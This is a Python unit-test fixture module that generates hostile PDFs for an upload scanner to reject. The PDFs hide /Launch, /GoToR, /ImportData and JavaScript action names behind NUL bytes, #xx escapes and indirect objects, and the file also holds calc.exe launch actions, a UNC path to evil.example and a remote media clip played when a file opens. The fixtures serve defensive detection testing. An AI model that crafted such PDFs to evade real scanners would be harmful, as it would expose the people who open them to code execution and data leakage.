"""Hostile PDFs whose active names hide from a plain comparison (a NUL byte after the name,
``#xx`` escapes, an indirect name), and the actions that open other files or play media."""

from __future__ import annotations

from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NumberObject, TextStringObject

from tests.unit.hostile_files import (
    EVIL,
    Case,
    _action,
    _annotation,
    _fit,
    _link_action,
    _name,
    _open_action,
    _pdf,
)

UNC = "\\\\evil.example\\share\\sk.pdf"


def _respelled(spelling: bytes, action: str = "/Launch", **entries) -> Callable[[], bytes]:
    """A link whose action name is written as ``spelling`` (readers and pypdf both find the
    objects again when the offsets are off)."""

    def make() -> bytes:
        entries.setdefault("F", TextStringObject("calc.exe"))
        data = _pdf(_link_action(_action(action, **entries)))
        return data.replace(b"/S " + action.encode(), b"/S " + spelling, 1)

    return make


pdf_launch_nul = _respelled(b"/Launch\x00")  # NUL is PDF whitespace; pypdf keeps it in the name
pdf_launch_hex_l = _respelled(b"/#4Caunch")
pdf_launch_escaped_nul = _respelled(b"/#4Caunch#00")  # an escaped NUL: C readers stop there
pdf_javascript_nul_key = _respelled(
    b"/Java#53cript#00 /JS\x00 (app.alert(1))", "/Named", N=_name("/NextPage")
)


def pdf_launch_indirect_name() -> bytes:
    """``/S 7 0 R`` where object 7 is the name /Launch (escaped): a plain ``get`` sees a
    reference, and a byte search sees no /Launch."""

    def edit(w: PdfWriter) -> None:
        action = _action("/GoTo")
        action[_name("/S")] = w._add_object(_name("/Launch"))
        action[_name("/F")] = TextStringObject("calc.exe")
        _link_action(action)(w)

    data = _pdf(edit)
    assert data.count(b"/Launch") == 1  # the name object alone, which is then escaped
    return data.replace(b"/Launch", b"/#4Caunch")


def pdf_thread_external() -> bytes:
    """An article-thread action that opens a thread in another file (a UNC path)."""
    spec = DictionaryObject(
        {_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject(UNC)}
    )
    return _pdf(_open_action(_action("/Thread", F=spec, D=NumberObject(0))))


def pdf_thread_inside() -> bytes:
    """An article-thread action within the same document: nothing leaves the file."""
    return _pdf(_link_action(_action("/Thread", D=NumberObject(0))))


def _remote_clip() -> DictionaryObject:
    url = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/FS"): _name("/URL"),
            _name("/F"): TextStringObject(EVIL + "&v=1.mp4"),
        }
    )
    clip = DictionaryObject(
        {
            _name("/Type"): _name("/MediaClip"),
            _name("/S"): _name("/MCD"),
            _name("/CT"): TextStringObject("video/mp4"),
            _name("/D"): url,
        }
    )
    return DictionaryObject(
        {_name("/Type"): _name("/Rendition"), _name("/S"): _name("/MR"), _name("/C"): clip}
    )


def pdf_rendition_on_open() -> bytes:
    """The document plays a clip fetched from an address as soon as it is opened."""
    return _pdf(_open_action(_action("/Rendition", OP=NumberObject(0), R=_remote_clip())))


def pdf_movie_action() -> bytes:
    return _pdf(_link_action(_action("/Movie", T=TextStringObject("klip"))))


def pdf_sound_action() -> bytes:
    return _pdf(_link_action(_action("/Sound", Volume=NumberObject(1))))


def pdf_rich_media_execute() -> bytes:
    return _pdf(_link_action(_action("/RichMediaExecute", TI=TextStringObject("x"))))


def _annotated(subtype: str, **entries) -> Callable[[], bytes]:
    return lambda: _pdf(lambda w: w.add_annotation(0, _annotation(subtype, **entries)))


pdf_movie_annotation = _annotated(
    "/Movie", Movie=DictionaryObject({_name("/F"): TextStringObject(EVIL)})
)
pdf_sound_annotation = _annotated("/Sound")
pdf_rich_media_annotation = _annotated("/RichMedia")


pdf_goto_remote_nul = _respelled(b"/GoToR\x00", "/GoToR", D=NumberObject(0))
pdf_import_data_escaped = _respelled(b"/Import#44ata", "/ImportData")


def pdf_open_at_page_escaped() -> bytes:
    """An innocent action with an escaped name (``/Go#54o``): escapes alone are not refused."""

    def edit(w: PdfWriter) -> None:
        _open_action(_action("/GoTo", D=_fit(w)))(w)

    return _pdf(edit).replace(b"/S /GoTo", b"/S /Go#54o", 1)


def pdf_article_threads() -> bytes:
    """A document with article threads (``/Threads`` in the catalog), as layout tools write."""

    def edit(w: PdfWriter) -> None:
        w._root_object[_name("/Threads")] = ArrayObject()

    return _pdf(edit)


PDF_NAMES: list[Case] = [
    Case("pdf-launch-nul", pdf_launch_nul, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-launch-hex-l", pdf_launch_hex_l, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-launch-escaped-nul", pdf_launch_escaped_nul, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-launch-indirect", pdf_launch_indirect_name, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-js-nul-key", pdf_javascript_nul_key, "sk.pdf", "upload.pdf_javascript"),
    Case("pdf-gotor-nul", pdf_goto_remote_nul, "sk.pdf", "upload.pdf_remote_document"),
    Case("pdf-importdata-escaped", pdf_import_data_escaped, "sk.pdf", "upload.pdf_import_data"),
    Case("pdf-thread-external", pdf_thread_external, "sk.pdf", "upload.pdf_remote_document"),
    Case("pdf-rendition-openaction", pdf_rendition_on_open, "sk.pdf", "upload.pdf_media"),
    Case("pdf-movie-action", pdf_movie_action, "sk.pdf", "upload.pdf_media"),
    Case("pdf-sound-action", pdf_sound_action, "sk.pdf", "upload.pdf_media"),
    Case("pdf-richmedia-execute", pdf_rich_media_execute, "sk.pdf", "upload.pdf_media"),
    Case("pdf-movie-annotation", pdf_movie_annotation, "sk.pdf", "upload.pdf_media"),
    Case("pdf-sound-annotation", pdf_sound_annotation, "sk.pdf", "upload.pdf_media"),
    Case("pdf-richmedia-annotation", pdf_rich_media_annotation, "sk.pdf", "upload.pdf_embedded"),
]

PDF_NAMES_BENIGN: list[Case] = [
    Case("pdf-thread-inside", pdf_thread_inside, "sk.pdf"),
    Case("pdf-goto-escaped", pdf_open_at_page_escaped, "sk.pdf"),
    Case("pdf-article-threads", pdf_article_threads, "sk.pdf"),
]
